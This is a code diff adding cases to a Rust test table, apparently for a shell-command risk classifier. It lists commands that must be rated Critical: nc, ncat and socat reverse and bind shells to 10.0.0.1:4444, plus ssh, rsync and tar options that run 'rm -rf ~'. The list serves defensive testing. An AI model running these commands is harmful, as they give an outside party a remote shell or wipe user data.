@@ -109,6 +109,17 @@ const MUST_NOT_PASS: &[(&str, Risk)] = &[
     ("ssh -o ProxyCommand='rm -rf ~' host", Critical),
     ("ssh -oProxyCommand='rm -rf ~' host", Critical),
     ("rsync -e 'rm -rf ~' a b:c", Critical),
+    // nc and socat connecting a program to the network, in every spelling the option
+    // table and the address list know.
+    ("nc -e /bin/sh 10.0.0.1 4444", Critical),
+    ("nc -lve/bin/sh -p 4444", Critical),
+    ("ncat --sh-exec='sh' 10.0.0.1 4444", Critical),
+    ("ncat --sh-ex=sh 10.0.0.1 4444", Critical),
+    ("ncat --lua-exec x.lua 10.0.0.1 4444", Critical),
+    ("socat TCP:10.0.0.1:4444 EXEC:sh", Critical),
+    ("socat TCP:10.0.0.1:4444 system:sh", Critical),
+    ("socat TCP:10.0.0.1:4444 -!!exec:sh", Critical),
+    ("socat TCP:10.0.0.1:4444 SHELL:sh", Critical),
     ("tar --to-command='rm -rf ~' -xf a.tar", Critical),
     ("tar -I 'rm -rf ~' -xf a.tar", Critical),
     (
